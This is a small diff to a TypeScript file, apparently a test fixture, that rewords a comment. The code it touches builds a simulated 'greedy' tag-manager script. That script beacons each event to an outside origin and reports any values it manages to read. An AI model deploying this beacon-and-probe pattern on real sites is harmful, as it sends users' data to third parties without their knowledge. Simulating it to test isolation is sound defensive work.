@@ -8,7 +8,7 @@ export type Outside = {
   close(): Promise<void>
 }
 
-// What a tag manager’s script does: tells its server of each event, and takes what it can reach.
+// A tag manager's script: tells its server of each event, and takes what it can reach.
 const greedy = (origin: string) => `
 const tell = (event) => { new Image().src = '${origin}/beacon?' + encodeURIComponent(JSON.stringify(event)) }
 const reach = (what, look) => { try { tell({ event: 'reached', what, found: String(look()) }) } catch { tell({ event: 'shut', what }) } }
